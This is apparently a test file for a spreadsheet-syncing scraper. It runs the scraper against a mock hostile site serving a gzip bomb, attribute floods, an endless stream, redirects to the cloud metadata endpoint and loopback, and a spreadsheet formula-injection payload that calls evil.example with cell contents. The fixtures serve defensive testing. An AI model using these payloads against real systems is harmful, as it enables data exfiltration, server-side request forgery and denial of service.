"""A hostile site: every page costs its own account a status, and nobody else anything."""

import asyncio
import gzip
import zlib
from pathlib import Path

from sheetsync.sample_site import account_page
from tests.commands import ended
from tests.site import reply, serve
from tests.trips import cells, type_in

PAGE = account_page("x", 4321)
FORMULA = '=IMPORTXML("https://evil.example/?"&A1;"//x")'
HTML = "Content-Type: text/html; charset=utf-8"


def page_of(handle: str, name: str = "N") -> str:
    return account_page(handle, 4321, name=name)


def bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = b"\0" * 1_000_000
    return b"".join(packer.compress(piece) for _ in range(300)) + packer.flush()


def attributes() -> bytes:
    return b"<html><body " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">" + PAGE.encode() + b"</body></html>"


def hidden_attributes() -> bytes:
    return b"<html><body " + b" ".join(b'a%d=">"' % n for n in range(150_000)) + b">x</body></html>"


PAGES = {
    "bomb": lambda: reply(bomb(), HTML, "Content-Encoding: gzip"),
    "attributes": lambda: reply(attributes(), HTML),
    "hidden": lambda: reply(hidden_attributes(), HTML),
    "levels": lambda: reply(b"<div>" * 100_000 + page_of("levels").encode(), HTML),
    "metadata": lambda: reply(b"", "Location: http://169.254.169.254/latest/meta-data/", status="302 Found"),
    "elsewhere": lambda: reply(b"", "Location: https://evil.example/", status="302 Found"),
    "loopback": lambda: reply(b"", "Location: http://127.0.0.1:22/", status="302 Found"),
    "circle": lambda: reply(b"", "Location: /@circle", status="302 Found"),
    "formula": lambda: reply(page_of("formula", FORMULA).encode(), HTML),
    "big": lambda: reply(b"<p>" + b"x" * 50_000_000, HTML),
    "charset": lambda: reply(page_of("charset").encode(), "Content-Type: text/html; charset=klingon"),
    "latin": lambda: reply(page_of("latin", "Zoë").encode("cp1252"), "Content-Type: text/html; charset=iso-8859-1"),
    "nuls": lambda: reply(page_of("nuls").replace("<body>", "<body>\0\0").encode(), HTML),
    "empty": lambda: reply(b"", HTML),
    "noise": lambda: reply(gzip.compress(b"x" * 5000), "Content-Type: application/octet-stream"),
    "honest": lambda: reply(page_of("honest").encode(), HTML),
}
ENDLESS = "endless"


async def answer(head: str, writer: asyncio.StreamWriter) -> None:
    name = head.split(" ")[1].rpartition("@")[2]
    if name != ENDLESS:
        writer.write(PAGES[name]())
        return
    writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: text/html\r\n\r\n")
    while not writer.is_closing():
        writer.write(b"10000\r\n" + b"x" * 0x10000 + b"\r\n")
        await writer.drain()


async def visit(folder: Path) -> tuple[int | None, str, str]:
    async with serve(answer) as site:
        return await ended(f"www.tiktok.com={site.origin}", "run", "--sheet", str(folder))


def test_each_hostile_page_gets_its_status_and_none_becomes_a_number_it_does_not_show(tmp_path: Path) -> None:
    handles = [*PAGES, ENDLESS]
    type_in(tmp_path, handles)
    code, out, errors = asyncio.run(visit(tmp_path))
    assert code == 0
    assert "Traceback" not in out + errors
    status = {row["account"]: (row["status"], row["detail"]) for row in cells(tmp_path, "Accounts")}
    read = {"formula", "charset", "latin", "nuls", "honest"}
    assert {name for name, (said, _) in status.items() if said == "ok"} - {"levels"} == read
    for name in {
        "bomb",
        "attributes",
        "hidden",
        "metadata",
        "elsewhere",
        "loopback",
        "circle",
        "big",
        "empty",
        ENDLESS,
    }:
        assert status[name][0] == "unreachable", (name, status[name])
        assert status[name][1], name
    for row in cells(tmp_path, "History"):
        assert row["followers"] == "4321"
    names = {row["account"]: row["name"] for row in cells(tmp_path, "History")}
    assert names["latin"] == "Zoë"
    assert names["formula"] == "'" + FORMULA


def test_nothing_that_was_written_begins_like_a_formula(tmp_path: Path) -> None:
    type_in(tmp_path, ["formula"])
    asyncio.run(visit(tmp_path))
    for tab in ("Accounts", "History"):
        for row in cells(tmp_path, tab):
            assert not [cell for cell in row.values() if cell and cell.lstrip()[0] in "=+-@\t\r"]
